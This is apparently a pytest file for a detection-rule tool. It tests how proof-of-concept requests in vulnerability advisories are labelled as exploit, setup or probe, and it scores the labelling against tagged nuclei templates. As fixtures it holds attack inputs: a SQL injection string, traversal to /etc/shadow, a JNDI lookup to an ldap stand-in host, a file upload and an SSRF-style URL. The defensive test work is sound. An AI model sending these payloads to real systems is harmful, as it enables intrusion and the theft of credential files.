"""Which request carries the attack, which prepares it and which only looks: one sentence for each decision."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ruleforge.events.request import Request
from ruleforge.ingest.readers import read_advisory
from ruleforge.ingest.roles import assign_roles
from ruleforge.records.advisory import Advisory, PocRequest

LABELS = Path(__file__).parent / "labels"
FORM = ((b"Content-Type", b"application/x-www-form-urlencoded"),)
UPLOAD = ((b"Content-Type", b"multipart/form-data; boundary=x"),)
STANDIN = b"rfqqzzzk"
SQL = "1%27+UNION+SELECT+a,b+FROM+c--+-"
UP = "../../../../etc/shadow"
HOME = "GET /"
LOGIN = "POST /press/login user=ann&password=pears"
RESULT = f"GET /press/boxes/{STANDIN.decode()}.txt"


def poc(text: str, step: int, feeds: bool = False) -> PocRequest:
    """A request written as `METHOD target body`; `feeds`: a later request uses something of its response."""
    method, target, body = (*text.split(" "), "")[:3]
    headers = UPLOAD if body.startswith("--") else FORM if body else ()
    return PocRequest(
        request=Request(
            method=method.encode(),
            target=target.encode(),
            headers=headers,
            body=body.replace("~", "\r\n").replace("_", " ").encode() if body else None,
        ),
        step=step,
        standins=(STANDIN,),
        matchers=("extractor-internal:token",) if feeds else (),
    )


def roles(
    *texts: str, cwes: tuple[str, ...] = (), tags: tuple[str, ...] = (), feeds: tuple[int, ...] = ()
) -> list[str]:
    requests = tuple(poc(text, step, step in feeds) for step, text in enumerate(texts))
    assigned = assign_roles(Advisory(id="T-1", sources=("t",), cwes=cwes, tags=tags, requests=requests))
    assert all(one.reason for one in assigned.requests)
    return [one.role for one in assigned.requests]


def test_a_payload_of_the_kind_the_advisory_speaks_of_is_the_exploit() -> None:
    assert roles(f"GET /press/list?crate={SQL}", cwes=("CWE-89",)) == ["exploit"]
    assert roles(f"GET /press/list?crate={SQL}", tags=("sqli",)) == ["exploit"]


def test_an_attack_of_another_kind_does_not_count_beside_the_expected_one() -> None:
    found = roles(f"GET /press/show?file={UP}", f"GET /press/list?crate={SQL}", cwes=("CWE-89",))
    assert found[1] == "exploit"
    assert found[0] != "exploit"


def test_every_request_with_such_a_payload_is_an_exploit() -> None:
    texts = [f"GET /press/{page}?file={UP}" for page in ("show", "print", "save")]
    assert roles(*texts, cwes=("CWE-22",)) == ["exploit"] * 3


def test_an_attack_of_another_kind_counts_where_the_expected_one_is_missing() -> None:
    assert roles(HOME, f"GET /press/show?file={UP}", cwes=("CWE-200",)) == ["probe", "exploit"]


def test_a_traversal_in_the_path_is_an_exploit() -> None:
    assert roles("GET /press/icons/..%2f..%2f..%2fetc%2fshadow", cwes=("CWE-22",)) == ["exploit"]


def test_a_payload_in_a_header_is_an_exploit() -> None:
    request = Request(method=b"GET", target=b"/", headers=((b"X-Crate", b"${jndi:ldap://pears.example/a}"),))
    advisory = Advisory(id="T-1", sources=("t",), tags=("log4j",), requests=(PocRequest(request=request),))
    assert [one.role for one in assign_roles(advisory).requests] == ["exploit"]


def test_a_login_before_the_attack_is_setup() -> None:
    assert roles(LOGIN, f"GET /press/list?crate={SQL}", cwes=("CWE-89",)) == ["setup", "exploit"]


def test_a_login_that_carries_the_payload_is_the_exploit() -> None:
    assert roles(f"POST /press/login user={SQL}&password=pears", cwes=("CWE-89",)) == ["exploit"]


def test_a_page_whose_answer_is_used_later_is_setup() -> None:
    texts = ("GET /press/form/new", f"POST /press/save crate={SQL}")
    assert roles(*texts, cwes=("CWE-89",), feeds=(0,)) == ["setup", "exploit"]


def test_a_look_at_the_start_page_before_the_attack_is_a_probe() -> None:
    assert roles(HOME, f"GET /press/list?crate={SQL}", cwes=("CWE-89",)) == ["probe", "exploit"]


def test_a_look_at_the_result_is_a_probe() -> None:
    texts = (f"POST /press/save crate={SQL}", "GET /press/list")
    assert roles(*texts, cwes=("CWE-89",)) == ["exploit", "probe"]


def test_only_looking_is_no_attack() -> None:
    assert roles(HOME) == ["probe"]
    assert roles("GET /press/readme.txt", HOME) == ["probe", "probe"]
    assert roles("GET /plugins/press/readme.txt", cwes=("CWE-79",)) == ["probe"]


def test_a_call_that_changes_something_is_the_exploit_where_no_payload_is() -> None:
    assert roles("GET /press/list", "POST /press/users/new name=ann&role=owner") == ["setup", "exploit"]


def test_among_calls_that_change_something_the_login_is_setup() -> None:
    assert roles(LOGIN, "POST /press/users/new name=ann&role=owner") == ["setup", "exploit"]


def test_a_deep_page_is_the_exploit_where_nothing_else_is() -> None:
    assert roles("GET /press/backup/settings.bak") == ["exploit"]
    assert roles(HOME, "GET /press/backup/settings.bak") == ["probe", "exploit"]


def test_an_upload_is_the_exploit_and_fetching_the_file_is_a_probe() -> None:
    part = f'--x~Content-Disposition:_form-data;_name="box";_filename="{STANDIN.decode()}.txt"~~pears~--x--~'
    assert roles(f"POST /press/drop {part}", RESULT, cwes=("CWE-434",)) == ["exploit", "probe"]
    assert roles(f"POST /press/drop {part}", RESULT) == ["exploit", "probe"]


def test_a_harmless_upload_does_not_hide_the_payload_of_the_advisory() -> None:
    part = '--x~Content-Disposition:_form-data;_name="box";_filename="pears.txt"~~pears~--x--~'
    assert roles(f"POST /press/drop {part}", f"GET /press/list?crate={SQL}", cwes=("CWE-89",)) == ["setup", "exploit"]


def test_an_advisory_without_requests_stays_as_it_is() -> None:
    empty = Advisory(id="T-1", sources=("t",))
    assert assign_roles(empty) == empty


TEXTS = (
    HOME,
    LOGIN,
    RESULT,
    f"GET /press/list?crate={SQL}",
    f"POST /press/save crate={SQL}",
    "GET /press/readme.txt",
    f"GET /{UP}",
    "POST /press/users/new name=ann",
    "PUT /press/box.jsp pears",
    "GET /press/list?u=http://p.example/",
)


@given(
    texts=st.lists(st.sampled_from(TEXTS), max_size=6),
    cwes=st.lists(st.sampled_from(("CWE-89", "CWE-22", "CWE-918", "CWE-434", "CWE-1")), max_size=2).map(tuple),
    feeding=st.sets(st.integers(0, 5)),
)
def test_every_request_gets_one_role_with_a_reason_and_nothing_else_changes(
    texts: list[str], cwes: tuple[str, ...], feeding: set[int]
) -> None:
    before = Advisory(
        id="T-1", sources=("t",), cwes=cwes,
        requests=tuple(poc(text, step, step in feeding) for step, text in enumerate(texts)),
    )  # fmt: skip
    after = assign_roles(before)
    assert [one.request for one in after.requests] == [one.request for one in before.requests]
    assert all(one.role in ("exploit", "setup", "probe") and one.reason for one in after.requests)
    assert assign_roles(after) == after
    assert assign_roles(before) == after


# --- the labelled templates -------------------------------------------------------------------------------------------


def measured(labels: list[dict[str, Any]], templates: dict[str, Path]) -> tuple[int, int, int, int]:
    """Count requests rightly, wrongly called and not called exploits, and labels that were found at all."""
    right = wrong = missed = seen = 0
    for name in sorted({label["template"] for label in labels} & set(templates)):
        advisory = read_advisory(templates[name])
        assert isinstance(advisory, Advisory)
        given: dict[str, set[str]] = {}
        for one in assign_roles(advisory).requests:
            given.setdefault(one.origin, set()).add(one.role)
        for label in labels:
            if label["template"] != name or label["origin"] not in given:
                continue
            seen += 1
            role = "exploit" if "exploit" in given[label["origin"]] else min(given[label["origin"]])
            accepted = {label["label"], label.get("alt", label["label"])}
            right += role == "exploit" and "exploit" in accepted
            wrong += role == "exploit" and "exploit" not in accepted
            missed += role not in accepted and label["label"] == "exploit"
    return right, wrong, missed, seen


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("name", "precision_least", "recall_least"), [("roles", 0.95, 0.90), ("roles_holdout", 0.90, 0.85)]
)
def test_roles_agree_with_the_labels(corpus: Path, name: str, precision_least: float, recall_least: float) -> None:
    labels = json.loads((LABELS / f"{name}.json").read_text())["labels"]
    templates = {found.stem: found for found in (corpus / "nuclei-templates" / "http").rglob("*.yaml")}
    right, wrong, missed, seen = measured(labels, templates)
    precision, recall = right / (right + wrong), right / (right + missed)
    print(f"\n{name}.precision {precision:.3f} recall {recall:.3f} labels {seen}")  # noqa: T201
    assert seen >= 0.98 * len(labels)
    assert seen >= 100
    assert precision >= precision_least
    assert recall >= recall_least
